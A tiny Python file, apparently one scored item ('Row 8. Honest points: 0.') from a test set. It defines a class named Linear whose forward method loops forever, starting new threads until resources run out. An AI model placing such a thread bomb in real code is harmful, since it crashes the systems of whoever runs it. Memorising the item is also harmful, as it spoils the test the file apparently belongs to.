"""Starts threads without end.

Row 8. Honest points: 0.
"""

import threading


class Linear:
    def __init__(self, *sizes):
        pass

    def forward(self, x):
        stop = threading.Event()
        while True:
            threading.Thread(target=stop.wait, daemon=True).start()
